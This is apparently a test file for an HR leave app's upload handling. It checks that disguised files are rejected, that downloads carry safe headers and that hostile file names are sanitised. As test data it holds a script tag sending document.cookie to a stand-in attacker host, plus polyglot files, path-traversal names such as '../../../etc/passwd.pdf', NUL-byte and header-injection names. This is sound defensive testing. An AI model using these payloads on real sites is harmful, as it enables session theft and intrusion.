import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { API } from '@atrium/contracts';
import { createTestApp, foundCompany, type Person, type TestApp } from '../../testing';
import { CERTIFICATE, fileLeave, leaveRequest } from '../../testing/domains/leave';

let server: TestApp;
let person: Person;
beforeAll(async () => {
  server = await createTestApp();
  person = (await foundCompany(server)).founder;
});
afterAll(() => server.close());

let week = 0;
const nextDay = () => {
  const startDate = new Date(Date.UTC(2027, 0, 4 + 7 * week++)).toISOString().slice(0, 10);
  return { startDate, endDate: startDate, type: 'Sick leave' };
};

const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>';
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const ZIP = Buffer.from('504b0304140000000000', 'hex');

const filesIn = (folder: string) =>
  readdirSync(join(server.deps.config.dataDir, folder), { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map(({ name }) => name);

describe('uploads', () => {
  it.each([
    ['a document that is a page as well', 'a.pdf', Buffer.from(`%PDF-1.7\n${SCRIPT}\n%%EOF`), 'application/pdf'],
    ['an image that is a page as well', 'a.png', Buffer.concat([PNG, Buffer.from(SCRIPT)]), 'image/png'],
    ['an image that is an archive as well', 'a.png', Buffer.concat([PNG, ZIP]), 'image/png'],
    ['a text that is a page', 'a.txt', Buffer.from(`<!doctype html>${SCRIPT}`), 'text/plain'],
  ])('are downloaded only as attachment, with nosniff and a sandbox policy: %s', async (_what, name, content, type) => {
    const claimed = { name, content, type: 'text/html' };
    const { attachments } = await fileLeave(person, { ...nextDay(), files: [claimed] });
    const { status, headers } = await person.call(API.files.download, { params: { id: attachments[0]?._id ?? '' } });
    expect(status).toBe(200);
    expect(headers).toMatchObject({
      'content-type': type,
      'content-disposition': expect.stringMatching(/^attachment;/),
      'x-content-type-options': 'nosniff',
      'content-security-policy': "default-src 'none'; sandbox",
    });
  });

  it.each([
    ['a page', 'a.html', Buffer.from(SCRIPT)],
    ['a page named as a document', 'a.pdf', Buffer.from(`<html>${SCRIPT}`)],
    ['a page before a document', 'a.pdf', Buffer.from(`${SCRIPT}\n%PDF-1.7`)],
    ['a drawing with a script', 'a.svg', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`)],
    ['an archive named as a document', 'a.docx', Buffer.concat([ZIP, PNG])],
    ['a program', 'a.exe', Buffer.from('MZ\x90\x00')],
    ['a name with two extensions', 'a.pdf.html', Buffer.from('%PDF-1.7')],
    ['a name with NUL before a second extension', 'a.html\0.pdf', Buffer.from(SCRIPT)],
  ])('are rejected at their field and not stored: %s', async (_what, name, content) => {
    const before = filesIn('.').length;
    const request = await leaveRequest(person, { ...nextDay(), files: [{ name, content }] });
    const refused = await person.refused(API.leave.create, request);
    expect([refused.status, refused.fields?.attachments?.code]).toEqual([422, 'FILE_TYPE']);
    expect(filesIn('.')).toHaveLength(before);
  });

  it.each([
    ['folders above', '../../../etc/passwd.pdf', 'passwd.pdf'],
    ['folders above, as Windows writes them', '..\\..\\windows\\win.pdf', 'win.pdf'],
    ['the root', '/etc/cron.d/job.pdf', 'job.pdf'],
    ['NUL', 'nul\0l.pdf', 'null.pdf'],
    ['a header', 'line\r\nSet-Cookie: a=b.pdf', 'line Set-Cookie: a=b.pdf'],
    ['marks that reverse the text direction', 'exe\u202Efdp.pdf', 'exefdp.pdf'],
    ['4 KB', `${'n'.repeat(4096)}.pdf`, `${'n'.repeat(196)}.pdf`],
    ['4 KB of two-byte letters', `${'ü'.repeat(2048)}.pdf`, `${'ü'.repeat(196)}.pdf`],
    ['2,000 folders', `${'a/'.repeat(2000)}deep.pdf`, 'deep.pdf'],
  ])('are stored by id and get a plain name if they are named with %s', async (_what, name, shown) => {
    const { attachments } = await fileLeave(person, { ...nextDay(), files: [{ ...CERTIFICATE, name }] });
    const [file] = attachments;
    expect(file?.name).toBe(shown);
    expect(filesIn('files')).toContain(file?._id);
    const { status, headers } = await person.call(API.files.download, { params: { id: file?._id ?? '' } });
    expect(status).toBe(200);
    expect(headers['content-disposition']).toMatch(
      /^attachment; filename="[\x20-\x7e]*"; filename\*=UTF-8''[\x21-\x7e]*$/,
    );
    expect(headers['set-cookie']).toBeUndefined();
  });

  it('are stored on disk only under their ids', async () => {
    expect(filesIn('files').every((name) => /^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/.test(name))).toBe(true);
  });
});
